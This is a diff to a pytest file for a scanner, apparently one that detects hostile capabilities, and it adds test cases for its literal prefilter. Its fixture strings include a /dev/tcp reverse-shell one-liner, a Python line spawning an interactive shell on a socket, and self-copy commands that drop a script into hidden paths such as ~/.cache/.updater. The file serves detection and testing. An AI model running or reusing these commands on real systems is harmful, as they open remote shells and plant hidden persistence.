@@ -6,7 +6,8 @@ import re
 
 import pytest
 
-from redline.redlines.capabilities import _PREFILTERED, _required_literals, scan
+from redline.redlines import capabilities
+from redline.redlines.capabilities import _PREFILTERED, Capability, _required_literals, scan
 from tests.redlines.conftest import FIXTURES
 
 TEXTS = sorted(p for p in FIXTURES.rglob("*") if p.is_file())
@@ -61,6 +62,11 @@ _LONG_PREFIX = "# notes for the maintenance window, read before running anything
         "\U0001f600 \U0001d518 " * 40 + "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
         # A literal preceded by a look-behind and a word boundary, read in context.
         _LONG_PREFIX + "x='/bin/sh'; subprocess.call(['/bin/sh', '-i'], stdin=s.fileno())\n",
+        # Many places of a head, the literal needed after it standing last, first, or between:
+        # places past its last one are not tried, those before still are.
+        "cp build/a.txt out/; " * 20 + 'cp "$0" ~/.cache/.updater; cp x y\n',
+        'cp "$0" ~/.cache/.updater; ' + "cp build/a.txt out/; " * 20 + "\n",
+        "cp a b; " * 12 + 'CP "${0}" ~/.Sync; ' + "cp a b; " * 12 + "Copy-Item $PSCommandPath x\n",
     ],
     ids=[
         "length-changing-lowercase",
@@ -68,6 +74,9 @@ _LONG_PREFIX = "# notes for the maintenance window, read before running anything
         "long-s-short-text",
         "astral-characters",
         "context-before-literal",
+        "tail-literal-last",
+        "tail-literal-first",
+        "tail-literal-between",
     ],
 )
 def test_scan_tries_literals_only_where_positions_hold(text: str) -> None:
@@ -78,3 +87,20 @@ def test_scan_tries_literals_only_where_positions_hold(text: str) -> None:
 def test_prefilter_literals_are_ascii() -> None:
     """Folding the four case-blind letters outside ASCII is enough only for ASCII literals."""
     assert all(head.isascii() for _, _, heads in _PREFILTERED for head in heads or ())
+
+
+def test_a_line_of_heads_without_what_follows_them_is_not_tried() -> None:
+    """A pattern needing `$0` or `__file__` after its `cp` is tried at none of a thousand `cp `
+    when neither stands in the text: each try would read to the line's end."""
+    line = "cp " * 1_000
+    lowered = capabilities.lowered_once(line)
+    places = [3 * i for i in range(1_000)]
+    self_copies = [
+        index
+        for index, (capability, _, heads) in enumerate(_PREFILTERED)
+        if capability is Capability.SELF_COPY and heads and "cp" in heads
+    ]
+    assert self_copies
+    assert all(capabilities._reachable(i, lowered, places) == [] for i in self_copies)
+    followed = lowered + "__filename $0"  # what each needs, after the last `cp`: all tried
+    assert all(capabilities._reachable(i, followed, places) == places for i in self_copies)
